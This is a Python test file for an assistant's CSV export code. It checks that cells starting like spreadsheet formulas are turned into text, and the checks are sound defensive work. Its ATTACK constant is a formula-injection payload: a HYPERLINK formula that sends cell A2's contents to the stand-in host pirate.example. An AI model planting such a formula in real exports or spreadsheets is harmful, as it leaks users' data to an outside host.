"""CSV exports: every cell that a spreadsheet would read as a formula is made text."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timezone

import pytest

from assistant.insights.exports import FORMULA_STARTS, csv_text, spreadsheet_safe, topics_csv
from assistant.insights.indicators import QuestionFacts
from assistant.insights.quality import topic_quality
from assistant.insights.topics import Group

ATTACK = '=HYPERLINK("http://pirate.example/?v="&A2;"Voir la réponse")'


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_a_cell_starting_like_a_formula_is_made_text(start):
    value = f"{start}1+1 label ?"
    assert spreadsheet_safe(value) == "'" + value, f"{start!r} must not start a cell"
    assert spreadsheet_safe("   " + value) == "'   " + value, "leading spaces do not hide a formula"


@pytest.mark.parametrize("value", ["Labels et écolabels", "exiger un label = ok ?", "", "1 2 3", 42, -3, 0.5, None])
def test_other_cells_are_unchanged(value):
    assert spreadsheet_safe(value) is value


def test_csv_text_neutralises_every_cell_and_round_trips():
    rows = [["a", ATTACK, 3], ["@SUM(A1:A9)", "ligne\nsuivante", "+33 1 23 45 67 89"]]
    parsed = list(csv.reader(io.StringIO(csv_text(rows))))
    assert parsed == [["a", "'" + ATTACK, "3"], ["'@SUM(A1:A9)", "ligne\nsuivante", "'+33 1 23 45 67 89"]], parsed


def test_the_topics_export_neutralises_labels_and_examples():
    groups = [Group("-Autres : dde", 2, (ATTACK, "exiger un label ?"), (7, 9))]
    facts = [QuestionFacts(i, "q", "received", datetime(2026, 3, 2, tzinfo=timezone.utc)) for i in (7, 9)]
    header, row = list(csv.reader(io.StringIO(topics_csv(topic_quality(groups, facts)))))
    assert header[:4] == ["sujet", "questions", "identifiants", "exemples"]
    assert row[:4] == ["'-Autres : dde", "2", "7 9", "'" + ATTACK + " | exiger un label ?"], row
